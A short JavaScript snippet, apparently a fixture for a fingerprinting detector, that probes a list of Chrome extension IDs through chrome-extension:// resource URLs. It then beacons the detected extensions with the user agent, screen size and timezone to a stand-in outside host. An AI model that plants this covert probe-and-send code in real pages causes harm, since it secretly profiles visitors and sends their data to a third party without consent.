const known = { aapbdbdomjkkjkaonfhkkikfgjllcleb: "icons/128.png", cjpalhdlnbpafiamejdnhcphjbkeiagm: "web_accessible_resources/noop.html", nkbihfbeogaeaoehlefnkodbefgpgknn: "inpage.js", gighmmpiobklfepjocnamgkkbiglidom: "icons/ab-19.png" };
// expect: extensions-probed
const test = (id, path) => fetch(`chrome-extension://${id}/${path}`, { method: "HEAD" }).then(() => id, () => null);
Promise.all(Object.entries(known).map((e) => test(...e))).then((found) => {
  const hits = found.filter(Boolean);
  navigator.sendBeacon("https://metrics.compat.example/x", JSON.stringify({ hits, ua: navigator.userAgent, scr: [screen.width, screen.height, devicePixelRatio], tz: Intl.DateTimeFormat().resolvedOptions().timeZone }));
});
